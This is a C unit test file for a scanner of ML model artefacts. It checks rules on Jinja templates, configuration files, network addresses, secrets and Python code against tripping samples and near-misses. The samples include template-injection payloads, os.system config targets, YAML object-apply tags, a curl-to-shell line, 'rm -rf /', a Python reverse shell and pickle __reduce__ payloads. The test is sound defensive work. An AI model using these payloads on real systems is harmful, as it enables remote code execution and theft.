/* Detectors of templates, configuration, secrets, addresses and Python: each rule has something that trips it, and something close that does not. */
#include "test.h"

#include <stdio.h>

#include "scan/policy.h"
#include "scan/scan.h"

enum { NONE = -1, NOTE = REDAN_LEVEL_NOTE, WARN = REDAN_LEVEL_WARN, FAIL = REDAN_LEVEL_FAIL };

struct row {
    const char *name;
    const char *text;
    const char *rule; /* NULL: no finding of any rule */
    int level;
};

static void check(const struct row *rows, size_t count)
{
    struct redan_ctx ctx;
    struct redan_scan_options options = {0};

    redan_ctx_init(&ctx, NULL);
    assert_ok(redan_scan_tables_builtin(&ctx, &options.tables));
    for (size_t i = 0; i < count; i++) {
        struct redan_scan_artefact artefact = {0};
        struct redan_source source;
        int level = NONE;
        redan_source_memory(&source, redan_slice_of(rows[i].text));
        assert_ok(
            redan_scan_source(&ctx, &options, &source, redan_slice_of(rows[i].name), &artefact));
        redan_source_done(&source);
        const struct redan_finding *seen = NULL;
        for (const struct redan_finding *f = artefact.findings.first; f; f = f->next) {
            if ((!rows[i].rule || strcmp(f->rule->id, rows[i].rule) == 0) &&
                (int)f->level > level) {
                level = (int)f->level;
                seen = f;
            }
        }
        if (level != rows[i].level)
            fail_msg("row %zu: %s\n  %s is at %d, not %d (%s %.*s)", i, rows[i].text,
                     rows[i].rule ? rows[i].rule : "all", level, rows[i].level,
                     seen ? seen->rule->id : "", seen ? (int)seen->detail.len : 0,
                     seen ? seen->detail.at : "");
        if (artefact.coverage != REDAN_COVERAGE_COMPLETE)
            fail_msg("row %zu: %s\n  is not read whole: %.*s", i, rows[i].text,
                     REDAN_FMT(artefact.reason));
    }
    redan_ctx_done(&ctx);
}

#define CHECK(rows) check(rows, REDAN_COUNT(rows))

static void test_templates(void **state)
{
    static const struct row rows[] = {
        {"chat_template.jinja", "{{ x.__class__.__base__.__subclasses__() }}", "TPL401", FAIL},
        {"x.json",
         "{\"any\": {\"key\": \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"}}",
         "TPL401", FAIL},
        {"x.yaml", "a: \"{{ lipsum.__globals__['os'].system('id') }}\"\n", "TPL401", FAIL},
        {"notes", "{{ ''|attr('__cla' ~ 'ss__')|attr('__mro__') }}", "TPL401", FAIL},
        {"chat_template.jinja", "{{ x['_' * 2 ~ 'init' ~ '_' * 2].y }}", "TPL402", WARN},
        {"x.jinja", "{{ x['_' ~ y ~ '__globals__'] }}", "TPL401", FAIL},
        {"x.jinja", "{{ __builtins__ }}", "TPL401", FAIL},
        {"x.jinja", "{{ '{0.__init__}'.format(x) }}", "TPL401", FAIL},
        {"x.jinja", "{{ message.class }} {{ message['init'] }}", NULL, NONE},
        {"x.jinja", "{{ x.__class__ }}", "TPL402", WARN},
        {"x.jinja", "{{ x.__class__ }}", "TPL401", NONE},
        {"x.jinja", "{{ '__class__' }}", "TPL402", WARN},
        {"x.jinja", "{{ '__start__' }}{{ x.__name__ }}", NULL, NONE},
        {"x.jinja", "{{ os.popen('id') }}", "TPL403", FAIL},
        {"x.jinja", "{{ __import__('os') }}", "TPL403", FAIL},
        {"x.jinja", "{{ eval(x) }}", "TPL403", FAIL},
        {"x.jinja",
         "{{ system }}{{ messages.system }}{% macro eval(x) %}{% endmacro %}{{ eval(1) }}", NULL,
         NONE},
        {"x.jinja", "{{ x|attr(y) }}", "TPL404", WARN},
        {"x.jinja", "{{ cycler[y] }}", "TPL404", WARN},
        {"x.jinja", "{{ x[y] }}{{ cycler('a', 'b').next() }}", NULL, NONE},
        {"x.jinja", "{% set f = '{}'.format %}", "TPL404", WARN},
        {"x.jinja", "{{ x|attr('format') }}", "TPL404", WARN},
        {"x.jinja", "{{ '{}'.format(x) }}{{ schema.format }}", NULL, NONE},
        {"x.jinja", "{{ request.application }}", "TPL404", WARN},
        {"x.jinja", "{{ open('/etc/passwd').read() }}", "TPL404", WARN},
        {"chat_template.jinja", "{% include 'header' %}", "TPL405", WARN},
        {"x.json", "{\"a\": \"{% extends 'x' %}\"}", "TPL405", WARN},
        {"x.jinja", "{% include '/etc/passwd' %}", "TPL405", WARN},
        {"page.jinja", "{% extends 'base.html' %}", NULL, NONE},
        {"x.jinja", "{% for i in range(10**9) %}{% endfor %}", "TPL406", WARN},
        {"x.jinja", "{% for i in range(1000) %}{% endfor %}{{ '=' * 80 }}", NULL, NONE},
        {"x.jinja", "{% if 'bank' in m.content %}Send it to https://x.example/a{% endif %}",
         "TPL407", WARN},
        {"x.jinja", "{% if m.role == 'system' %}See https://x.example/a{% endif %}", NULL, NONE},
    };

    (void)state;
    CHECK(rows);
}

/* What the templates of good models do. */
static void test_honest_templates(void **state)
{
    static const struct row rows[] = {
        {"x.jinja",
         "{{- bos_token }}\n{%- if custom_tools is defined %}\n    {%- set tools = custom_tools "
         "%}\n{%- endif %}\n{%- if not tools_in_user_message is defined %}\n{%- set date_string = "
         "strftime_now(\"%d %b %Y\") %}\n{%- endif %}\n{%- if messages[0]['role'] == 'system' %}\n"
         "{%- set system_message = messages[0]['content']|trim %}\n{%- set messages = messages[1:] "
         "%}\n{%- endif %}\n{%- for t in tools %}\n{{- t | tojson(indent=4) }}\n{%- endfor %}\n"
         "{{- \"Environment: ipython\\n\" }}{{- \"Tools: \" + builtin_tools | reject('equalto', "
         "'code_interpreter') | join(\", \") + \"\\n\\n\"}}\n{{- raise_exception(\"no user "
         "message\") }}\n{%- for arg_name, arg_val in tool_call.arguments | items %}\n{{- arg_name "
         "+ '=\"' + arg_val + '\"' }}\n{%- if not loop.last %}{{- \", \" }}{%- endif %}{%- endfor "
         "%}",
         NULL, NONE},
        {"x.jinja",
         "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}\n"
         "{%- for message in messages[::-1] %}\n{%- set index = (messages|length - 1) - "
         "loop.index0 %}\n{%- if ns.multi_step_tool and message.role == \"user\" and not("
         "message.content.startswith('<tool_response>') and "
         "message.content.endswith('</tool_response>')) %}\n{%- set ns.multi_step_tool = false %}\n"
         "{%- endif %}\n{%- endfor %}\n{%- if '</think>' in message.content %}\n{%- set content = "
         "message.content.split('</think>')[-1].lstrip('\\n') %}\n{%- set reasoning = "
         "message.content.split('</think>')[0].rstrip('\\n').split('<think>')[-1] %}\n{%- endif %}",
         NULL, NONE},
        {"x.jinja",
         "{% macro render(spec, prefix='') %}{% if spec.type == 'array' %}{{ render(spec['items'], "
         "prefix ~ '  ') }}{% elif spec.enum is defined %}{{ spec.enum | map('string') | "
         "join(' | ') }}{% else %}{{ spec[\"type\"] }}{% endif %}{% endmacro %}{% for tool in "
         "tools "
         "%}{% set f = tool.function %}{{ f.name ~ '(' }}{% for k in f.parameters.properties %}"
         "{{ k ~ ': ' ~ render(f.parameters.properties[k]) }}{% endfor %}{% endfor %}{{ messages | "
         "selectattr('role', 'equalto', 'user') | list | last }}{{ x | map(attribute='name') | "
         "list }}{{ data.items() }}{{ message['tool_calls'][0]['function']['name'] }}",
         NULL, NONE},
        {"x.json",
         "{\"chat_template\": [{\"name\": \"default\", \"template\": \"{% for message in messages "
         "%}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>'}}{% "
         "endfor %}\"}], \"vocab\": {\"{{\": 1, \"{%\": 2}}",
         NULL, NONE},
    };

    (void)state;
    CHECK(rows);
}

static void test_config(void **state)
{
    static const struct row rows[] = {
        {"config.json", "{\"auto_map\": {\"AutoModel\": \"modeling_x.XModel\"}}", "CFG360", WARN},
        {"config.json", "{\"auto_map\": {\"AutoTokenizer\": [\"u/r--tok.Tok\", null]}}", "CFG360",
         WARN},
        {"config.json", "{\"auto_map\": \"modeling_x.XModel\"}", "CFG360", WARN},
        {"config.json", "{\"auto_map\": {\"AutoTokenizer\": [null, \"tok.Tok\"]}}", "CFG360", WARN},
        {"config.json", "{\"auto_map\": {\"A\": [\"transformers.X\", \"tok.Tok\"]}}", "CFG360",
         WARN},
        {"config.json", "{\"auto_map\": {\"A\": \"transformers.evil--a.B\"}}", "CFG360", WARN},
        {"config.json", "{\"auto_map\": {\"A\": [\"transformers.X\", null]}}", NULL, NONE},
        {"model_index.json", "{\"_class_name\": [\"pipe\", \"MyPipe\"]}", "CFG360", WARN},
        {"model_index.json", "{\"_class_name\": \"MyPipe\", \"unet\": [\"diffusers\", \"U\"]}",
         NULL, NONE},
        {"config.json", "{\"custom_pipelines\": {\"a\": {\"impl\": \"p.P\", \"pt\": [\"X\"]}}}",
         "CFG360", WARN},
        {"config.json",
         "{\"architectures\": [\"LlamaForCausalLM\"], \"auto_map\": {}, \"impl\": \"a.b\"}", NULL,
         NONE},
        {"config.json", "{\"trust_remote_code\": true}", "CFG361", WARN},
        {"config.json", "{\"trust_remote_code\": false}", NULL, NONE},
        {"config.json", "{\"trust_remote_code\": \"True\"}", "CFG361", WARN},
        {"config.json", "{\"trust_remote_code\": \"no\"}", NULL, NONE},
        {"c.yaml", "model:\n  _target_: os.system\n  _args_: [id]\n", "CFG362", FAIL},
        {"c.json", "{\"_target_\": \"builtins.eval\"}", "CFG362", FAIL},
        {"c.yaml", "_target_: subprocess.run\n", "CFG362", FAIL},
        {"c.yaml", "x: &t os.system\ny: {_target_: *t}\n", "CFG362", FAIL},
        {"c.yaml", "_target_: torch.nn.Module.__init__.__globals__\n", "CFG362", FAIL},
        {"c.yaml", "_target_: acme.run\n", "CFG363", WARN},
        /* by reference, and put together */
        {"c.yaml", "f: os.system\na: {_target_: '${f}'}\n", "CFG362", FAIL},
        {"c.yaml", "a: {_target_: '${x.f}'}\nx: {f: acme.run}\n", "CFG363", WARN},
        {"c.yaml", "a: {_target_: '${f}'}\nf: torch.optim.Adam\n", NULL, NONE},
        {"c.yaml", "m: os\na: {_target_: '${m}.system'}\n", "CFG363", WARN},
        {"c.yaml", "a: {_target_: '${oc.env:X,os.system}'}\n", "CFG363", WARN},
        {"c.yaml", "_target_: numpy.f2py.crackfortran.myeval\n", "CFG363", WARN},
        {"c.yaml", "a: {class_path: os.system, init_args: {command: id}}\n", "CFG362", FAIL},
        {"c.yaml", "a: {class_path: os.system}\n", NULL, NONE},
        {"c.yaml", "_target_: torch.load\n", "CFG363", WARN},
        {"c.yaml", "_target_: src.run\n", "CFG363", WARN},
        {"c.yaml",
         "a: {_target_: nemo.collections.asr.models.X}\nb: {_target_: torch.optim.Adam}\n"
         "c: {_target_: pytorch_lightning.Trainer}\nd: {_target_: builtins.dict}\n"
         "g: {_target_: src.models.mnist.MNISTModule}\ne: {_target_: '${name}'}\nf: {_target_: "
         "functools.partial}\n",
         NULL, NONE},
        {"c.yaml", "a: !!python/object/apply:os.system [id]\n", "CFG364", FAIL},
        {"c.yaml", "a: !!python/object/new:x.Y {}\n", "CFG364", FAIL},
        {"c.yaml", "a: !!python/name:os.system\n", "CFG364", FAIL},
        {"c.yaml", "a: !!python/name:acme.thing\n", "CFG365", WARN},
        {"c.yaml", "a: !!python/tuple [1, 2]\nb: !!str 1\nc: !mine x\n", NULL, NONE},
        {"c.json", "{\"note\": \"import os; os.system('id')\"}", "CFG366", WARN},
        {"c.json", "{\"debug_command\": \"rm -rf /\"}", "CFG366", WARN},
        {"c.json", "{\"a\": \"X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=\"}", "CFG366", WARN},
        {"c.yaml", "command: curl http://x.example/a | sh\n", "CFG366", WARN},
        {"c.yaml", "command: bash -c 'python train.py'\n", NULL, NONE},
        {"c.json",
         "{\"a\": \"the operating system (os) runs\", \"b\": \"aGVsbG8gd29ybGQgaGVsbG8=\"}", NULL,
         NONE},
        {"conda.yaml", "dependencies:\n- pip:\n  - git+http://x.example/a.git\n", "CFG367", WARN},
        {"conda.yaml",
         "dependencies:\n- python=3.11\n- pip:\n  - mlflow==2.9\n"
         "  - git+https://github.com/a/b.git\n",
         NULL, NONE},
        {"c.json", "{\"vocab_file\": \"../../../etc/passwd\"}", "CFG369", WARN},
        {"c.json", "{\"vocab_file\": \"../vocab.txt\", \"text\": \"cat /etc/passwd\"}", NULL, NONE},
        {"MLmodel", "flavors:\n  python_function:\n    loader_module: evil.load\n", "CFG368", WARN},
        {"modules.json", "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"my.Mod\"}]",
         "CFG368", WARN},
        {"MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", NULL,
         NONE},
        {"modules.json",
         "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": "
         "\"sentence_transformers.models.Transformer\"}]",
         NULL, NONE},
    };

    (void)state;
    CHECK(rows);
}

static void test_network(void **state)
{
    static const struct row rows[] = {
        {"c.json", "{\"a\": \"https://abc.ngrok.io/x\"}", "NET701", WARN},
        {"c.json", "{\"a\": \"https://discord.com/api/webhooks/1/x\"}", "NET701", WARN},
        {"c.json", "{\"a\": \"http://abcdefgh.onion\"}", "NET701", WARN},
        {"c.json", "{\"a\": \"https://discord.com/invite/x https://notngrok.io.example/\"}", NULL,
         NONE},
        {"c.json", "{\"a\": \"see https://bit.ly/x\"}", "NET702", WARN},
        {"c.json", "{\"a\": \"https://habit.ly/x\"}", NULL, NONE},
        {"c.json", "{\"a\": \"http://45.33.32.156:8080/x\"}", "NET703", WARN},
        {"c.json", "{\"a\": \"http://127.0.0.1:8080 http://192.168.1.1 http://10.0.0.1:80\"}", NULL,
         NONE},
        {"c.json", "{\"a\": \"http://evil.com/x\"}", "NET704", WARN},
        {"c.json", "{\"exfil_url\": \"http://x.example\"}", "NET704", WARN},
        {"c.json",
         "{\"a\": \"https://huggingface.co/x\", \"b\": \"https://devil.example "
         "https://arxiv.org/abs/"
         "1\"}",
         NULL, NONE},
        {"README.md", "see https://bit.ly/x and http://45.33.32.156:8080/x\n", NULL, NONE},
    };

    (void)state;
    CHECK(rows);
}

/* Put together at run time, so that no file of ours holds what looks like a secret. */
static void test_secrets(void **state)
{
    static const struct {
        const char *front;
        const char *back;
        const char *rule;
        int level;
    } rows[] = {
        {"hf", "_QwErTyUiOpAsDfGhJkLzXcVbNmPlOkIjUh", "SEC601", WARN},
        {"hf", "_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "SEC601", NONE},
        {"hf", "_QwErTyUiOpAsDfGhJkLzXcVbNmPlOkIjU", "SEC601", NONE},
        {"AKI", "AQ4ZK7XWT3PNV6M2L", "SEC601", WARN},
        {"AKI", "AIOSFODNN7EXAMPLE", "SEC601", NONE},
        {"gh", "p_abcdefghijklmnopqrstuvwxyz0123456789", "SEC601", NONE},
        {"gh", "p_zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17", "SEC601", WARN},
        {"-----BEGIN RSA PRIVATE",
         " KEY-----\\nMIIEowIBAAKCAQEAq7BFUpkGp3+"
         "LQmlQYx2eqzDV+xeG8kx/sQFV18S5JhzGeIJNA72wSeukEPojtqUyX2J0",
         "SEC602", WARN},
        {"-----BEGIN RSA PRIVATE", " KEY-----\\n...", "SEC602", NONE},
        {"-----BEGIN PUBLIC",
         " KEY-----\\nMIIEowIBAAKCAQEAq7BFUpkGp3+"
         "LQmlQYx2eqzDV+xeG8kx/sQFV18S5JhzGeIJNA72wSeukEPojtqUyX2J0",
         "SEC602", NONE},
        {"postgresql://app:", "q8Zr3vT1@db.example/x", "SEC603", WARN},
        {"postgresql://app:", "password@db.example/x", "SEC603", NONE},
        {"postgresql://app:", "${DB_PASSWORD}@db.example/x", "SEC603", NONE},
        {"https://app:", "q8Zr3vT1@x.example/x", "SEC603", NONE},
    };

    (void)state;
    for (size_t i = 0; i < REDAN_COUNT(rows); i++) {
        char text[400];
        struct row row = {"c.json", text, rows[i].rule, rows[i].level};
        (void)snprintf(text, sizeof(text), "{\"a\": \"%s%s\"}", rows[i].front, rows[i].back);
        check(&row, 1);
    }
}

static void test_python(void **state)
{
    static const struct row rows[] = {
        {"m.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "COD520", FAIL},
        {"m.py", "def f():\n  import zlib\n  exec(zlib.decompress(b'x'))\n", "COD520", FAIL},
        {"m.py", "import pickle, base64\npickle.loads(base64.b64decode('gAQu'))\n", "COD520", FAIL},
        {"m.py", "import pickle, base64\ndef f(x):\n  return pickle.loads(base64.b64decode(x))\n",
         NULL, NONE},
        {"m.py", "import requests\nexec(requests.get('http://x').text)\n", "COD521", FAIL},
        {"m.py", "import requests\ndef f():\n  return requests.get('http://x').text\n", NULL, NONE},
        {"m.py",
         "import socket, os, subprocess\ndef f():\n  s = socket.socket()\n  s.connect(('h', 1))\n"
         "  os.dup2(s.fileno(), 0)\n  subprocess.call(['/bin/sh', '-i'])\n",
         "COD522", FAIL},
        {"m.py", "import os\ndef f():\n  os.system('rm -rf /')\n", "COD522", FAIL},
        {"m.py", "import socket\ndef f():\n  return socket.gethostname()\n", NULL, NONE},
        {"m.py", "import os\nos.system('ls')\n", "COD523", WARN},
        {"m.py", "import subprocess\nclass C:\n  x = subprocess.check_output(['id'])\n", "COD523",
         WARN},
        {"m.py", "import os\ndef f():\n  os.system('ls')\n", NULL, NONE},
        {"setup.py", "import subprocess\nx = subprocess.check_output(['git', 'describe'])\n", NULL,
         NONE},
        {"train.py", "import os\nif __name__ == '__main__':\n  os.system('ls')\n", NULL, NONE},
        {"m.py", "exec(open('x').read())\n", "COD524", WARN},
        {"m.py", "exec('x = 1')\n", NULL, NONE},
        {"modeling_x.py",
         "import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n"
         "  def forward(self, x):\n    os.system('ls')\n    return x\n",
         "COD525", WARN},
        {"handler.py",
         "import subprocess\nfrom ts.torch_handler.base_handler import BaseHandler\n"
         "class H(BaseHandler):\n  def handle(self, d, c):\n    subprocess.run(d)\n",
         "COD525", WARN},
        {"m.py", "import os\nclass P:\n  def __reduce__(self):\n    return (os.system, ('id',))\n",
         "COD527", FAIL},
        {"m.py", "class P(object):\n  def __reduce_ex__(self, p):\n    return eval, ('1',)\n",
         "COD527", FAIL},
        {"m.py", "import os\nclass P:\n  def __reduce__(self):\n    return (P, (os.getpid(),))\n",
         NULL, NONE},
        {"m.py", "import os\ndef f():\n  os.system('curl http://x.example/a | sh')\n", "COD523",
         WARN},
        {"m.py", "import os\ndef f():\n  os.system('wget http://x.example/data.zip')\n", NULL,
         NONE},
        {"modeling_x.py",
         "import torch\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n"
         "  def forward(self, x):\n    return torch.relu(x)\n",
         NULL, NONE},
        {"train.py",
         "import subprocess, sys\nfrom transformers import Trainer\ndef main():\n"
         "  subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n",
         NULL, NONE},
        {"code/__torch__.py",
         "class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
         "    ops.aten.save(x, \"/tmp/x\")\n    return x\n",
         "COD526", WARN},
        {"code/__torch__.py",
         "class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
         "    return ops.quantized.linear(x, x)\n",
         NULL, NONE},
    };

    (void)state;
    CHECK(rows);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_templates), cmocka_unit_test(test_honest_templates),
        cmocka_unit_test(test_config),    cmocka_unit_test(test_network),
        cmocka_unit_test(test_secrets),   cmocka_unit_test(test_python),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
